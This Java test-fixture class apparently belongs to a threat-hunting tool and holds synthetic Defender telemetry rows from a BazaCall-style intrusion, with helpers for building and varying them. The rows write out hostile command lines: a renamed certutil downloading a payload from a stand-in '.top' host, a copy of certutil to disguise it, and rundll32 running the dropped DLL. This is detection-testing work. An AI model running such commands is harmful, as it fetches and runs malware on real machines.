package dev.bazahunt.telemetry;

import java.util.SplittableRandom;

/**
 * Synthetic but realistic Defender rows from one BazaCall-style intrusion: Excel spawns cmd, cmd
 * copies certutil under a new name, the renamed certutil drops a DLL. Inside Java text blocks a JSON
 * backslash escape is written {@code \\\\}.
 */
final class DefenderTelemetrySamples {
    static final String DEVICE_ID = "4f1d2a9c7b3e5f60a1b2c3d4e5f60718293a4b5c";
    static final String DROP_TIMESTAMP = "2021-07-21T09:14:03.5520871Z";
    static final String CMD_TIMESTAMP = "2021-07-21T09:14:02.1150000Z";
    /** When Defender received the events: a minute after they happened. */
    static final String ENVELOPE_TIME = "2021-07-21T09:15:07.0000000Z";
    static final String TENANT = "8a4e7c2b-51d3-4f0e-9b6a-2c9d00000000";

    /** DeviceFileEvents: renamed certutil writes the downloaded payload. */
    static final String FILE_ROW = """
            {"Timestamp":"2021-07-21T09:14:03.5520871Z","DeviceId":"4f1d2a9c7b3e5f60a1b2c3d4e5f60718293a4b5c",\
            "DeviceName":"fin-lt-0231.northwind.local","ActionType":"FileCreated","FileName":"mso4021.dll",\
            "FolderPath":"C:\\\\Users\\\\Public\\\\qv7t\\\\mso4021.dll",\
            "SHA1":"9c1e4a7b2d5f8e0a3c6b9d2e5f8a1c4b7e0d3f6a","SHA256":null,"FileSize":284672,\
            "FileOriginUrl":null,"InitiatingProcessAccountName":"mhollis",\
            "InitiatingProcessFileName":"qv7t.exe","InitiatingProcessFolderPath":"c:\\\\users\\\\public\\\\qv7t\\\\qv7t.exe",\
            "InitiatingProcessVersionInfoOriginalFileName":"CertUtil.exe",\
            "InitiatingProcessCommandLine":"qv7t.exe  -urlcache -split -f http://k3vd9xq0wz.top/r8p2m.php C:\\\\Users\\\\Public\\\\qv7t\\\\mso4021.dll",\
            "InitiatingProcessId":9316,"InitiatingProcessCreationTime":"2021-07-21T09:14:02.8807412Z",\
            "InitiatingProcessParentFileName":"cmd.exe","InitiatingProcessParentId":8840,\
            "InitiatingProcessParentCreationTime":"2021-07-21T09:14:02.1150000Z",\
            "InitiatingProcessUniqueId":281474976710812,"IsInitiatingProcessRemoteSession":false,\
            "ReportId":20417,"MachineGroup":"Finance laptops",\
            "AdditionalFields":"{\\"FileType\\":\\"PortableExecutable\\"}"}""";

    /** DeviceProcessEvents: Excel starts cmd, which copies certutil to a new name. */
    static final String PROCESS_ROW = """
            {"Timestamp":"2021-07-21T09:14:02.1150000Z","DeviceId":"4f1d2a9c7b3e5f60a1b2c3d4e5f60718293a4b5c",\
            "DeviceName":"fin-lt-0231.northwind.local","ActionType":"ProcessCreated","FileName":"cmd.exe",\
            "FolderPath":"C:\\\\Windows\\\\System32\\\\cmd.exe","ProcessId":8840,\
            "ProcessCommandLine":"cmd.exe /c copy C:\\\\Windows\\\\System32\\\\certutil.exe C:\\\\Users\\\\Public\\\\qv7t\\\\qv7t.exe",\
            "ProcessCreationTime":"2021-07-21T09:14:02.1150000Z","ProcessIntegrityLevel":"Medium",\
            "ProcessTokenElevation":"TokenElevationTypeLimited","ProcessVersionInfoOriginalFileName":"Cmd.Exe",\
            "AccountDomain":"northwind","AccountName":"mhollis",\
            "AccountSid":"S-1-5-21-1004336348-1177238915-682003330-1107","LogonId":998877,\
            "InitiatingProcessFileName":"EXCEL.EXE","InitiatingProcessId":5120,\
            "InitiatingProcessCreationTime":"2021-07-21T09:13:40.6613190Z",\
            "InitiatingProcessParentFileName":"explorer.exe","InitiatingProcessParentId":4312,\
            "InitiatingProcessSignerType":"Microsoft","ReportId":20391,"MachineGroup":"Finance laptops"}""";

    /** DeviceNetworkEvents: not a table this hunt reads. */
    static final String NETWORK_ROW = """
            {"Timestamp":"2021-07-21T09:14:03.2210000Z","DeviceId":"4f1d2a9c7b3e5f60a1b2c3d4e5f60718293a4b5c",\
            "ActionType":"ConnectionSuccess","RemoteUrl":"k3vd9xq0wz.top","RemoteIP":"203.0.113.77",\
            "RemotePort":80,"InitiatingProcessFileName":"qv7t.exe","ReportId":20412}""";

    /** A registry row: a table the hunt does not read. */
    static final String REGISTRY_ROW = """
            {"Timestamp":"2021-07-21T09:14:05.0000000Z","DeviceId":"4f1d2a9c7b3e5f60a1b2c3d4e5f60718293a4b5c",\
            "ActionType":"RegistryValueSet","RegistryKey":"HKEY_CURRENT_USER\\\\Software\\\\Classes","ReportId":20413}""";

    /**
     * BazaLoader beaconing: rundll32 running the payload's GlobalOut export connects out. Shaped like the
     * Event Hubs feed: AdditionalFields as an object, a port as a number.
     */
    static final String RUNDLL32_NETWORK_ROW = """
            {"Timestamp":"2021-07-21T09:16:40.5000000Z","DeviceId":"4f1d2a9c7b3e5f60a1b2c3d4e5f60718293a4b5c",\
            "DeviceName":"wks-0142.contoso.local","ActionType":"ConnectionSuccess",\
            "RemoteIP":"198.51.100.23","RemotePort":443,"RemoteUrl":"","LocalIP":"10.20.30.41","LocalPort":50212,\
            "Protocol":"Tcp","RemoteIPType":"Public","LocalIPType":"Private",\
            "InitiatingProcessFileName":"rundll32.exe",\
            "InitiatingProcessCommandLine":"rundll32.exe C:\\\\Users\\\\Public\\\\x8k2\\\\tmp1834.dll,GlobalOut",\
            "InitiatingProcessId":8120,"InitiatingProcessCreationTime":"2021-07-21T09:16:38.0000000Z",\
            "InitiatingProcessAccountUpn":"j.doe@contoso.com","ReportId":20431,\
            "AdditionalFields":{"direction":"Out"},"MachineGroup":"Workstations"}""";

    /** A BazaCall lure: an account number and a subscription word in the subject, delivered to the inbox. */
    static final String LURE_EMAIL_ROW = """
            {"Timestamp":"2021-07-21T08:02:11.0000000Z","NetworkMessageId":"9b6a2f0e-4c1d-4a8e-9f3b-1c2d3e4f5a6b",\
            "InternetMessageId":"<20210721080211.4711@mailer.example>","SenderFromAddress":"billing@renewals-center.example",\
            "SenderFromDomain":"renewals-center.example","RecipientEmailAddress":"j.doe@contoso.com",\
            "RecipientObjectId":"7c1e4b2a-0000-4a1b-9c2d-000000000042",\
            "Subject":"Your free trial KMR004215896311 is about to end","EmailDirection":"Inbound",\
            "DeliveryAction":"Delivered","DeliveryLocation":"Inbox/folder","AttachmentCount":0,"UrlCount":0,\
            "ReportId":"9b6a2f0e-4c1d-4a8e-9f3b-1c2d3e4f5a6b-1","AdditionalFields":"{}"}""";

    private DefenderTelemetrySamples() {}

    /** An Event Hubs / Storage envelope, category first as Defender writes it. */
    static String envelope(String table, String row) {
        return "{\"time\":\"" + ENVELOPE_TIME + "\",\"tenantId\":\"" + TENANT + "\",\"operationName\":\"Publish\","
                + "\"category\":\"AdvancedHunting-" + table + "\",\"properties\":" + row + "}";
    }

    /** The same envelope with properties before category, which JSON allows. */
    static String envelopeWithCategoryLast(String table, String row) {
        return "{\"time\":\"" + ENVELOPE_TIME + "\",\"properties\":" + row + ",\"tenantId\":\"" + TENANT
                + "\",\"category\":\"AdvancedHunting-" + table + "\"}";
    }

    /** An Event Hubs message body. */
    static String batch(String... records) {
        return "{\"records\":[" + String.join(",", records) + "]}";
    }

    /** A row with one column's value replaced by raw JSON, e.g. {@code withColumn(FILE_ROW, "ReportId", "\"abc\"")}. */
    static String withColumn(String row, String column, String rawJsonValue) {
        return "{\"" + column + "\":" + rawJsonValue + "," + without(row, column).substring(1);
    }

    /** A row without a column (the sample rows hold each column once, with flat scalar values). */
    static String without(String row, String column) {
        String key = "\"" + column + "\":";
        int start = row.indexOf(key);
        if (start < 0) {
            return row;
        }
        int end = endOfValue(row, start + key.length());
        if (row.charAt(end) == ',') {
            return row.substring(0, start) + row.substring(end + 1);
        }
        return row.substring(0, start - 1) + row.substring(end); // the last column: drop the comma before it
    }

    private static int endOfValue(String row, int from) {
        boolean inString = false;
        for (int i = from; i < row.length(); i++) {
            char c = row.charAt(i);
            if (inString) {
                if (c == '\\') {
                    i++;
                } else if (c == '"') {
                    inString = false;
                }
            } else if (c == '"') {
                inString = true;
            } else if (c == ',' || c == '}') {
                return i;
            }
        }
        throw new IllegalArgumentException("no end of value in " + row);
    }

    private static final String[] JSON_WHITESPACE = {"", " ", "\t", "\r\n", "\n", "  "};

    /** Puts random JSON whitespace around the colon after each key, which the pre-filter must look past. */
    static String spaceOutColons(String unit, SplittableRandom random) {
        StringBuilder text = new StringBuilder(unit.length() + 64);
        for (int i = 0; i < unit.length(); i++) {
            char c = unit.charAt(i);
            text.append(c);
            if (c == '"' && i + 1 < unit.length() && unit.charAt(i + 1) == ':' && unit.charAt(i - 1) != '\\') {
                text.append(JSON_WHITESPACE[random.nextInt(JSON_WHITESPACE.length)]).append(':')
                        .append(JSON_WHITESPACE[random.nextInt(JSON_WHITESPACE.length)]);
                i++;
            }
        }
        return text.toString();
    }

    /** Flips the case of letters outside escapes, as Defender's mixed-case file names and command lines do. */
    static String randomCase(String unit, SplittableRandom random) {
        StringBuilder text = new StringBuilder(unit.length());
        for (int i = 0; i < unit.length(); i++) {
            char c = unit.charAt(i);
            boolean afterBackslash = i > 0 && unit.charAt(i - 1) == '\\';
            boolean inUnicodeEscape = i >= 2 && unit.substring(Math.max(0, i - 5), i).contains("\\u");
            if (!afterBackslash && !inUnicodeEscape && c < 0x80 && Character.isLetter(c) && random.nextInt(5) == 0) {
                c = Character.isUpperCase(c) ? Character.toLowerCase(c) : Character.toUpperCase(c);
            }
            text.append(c);
        }
        return text.toString();
    }
}
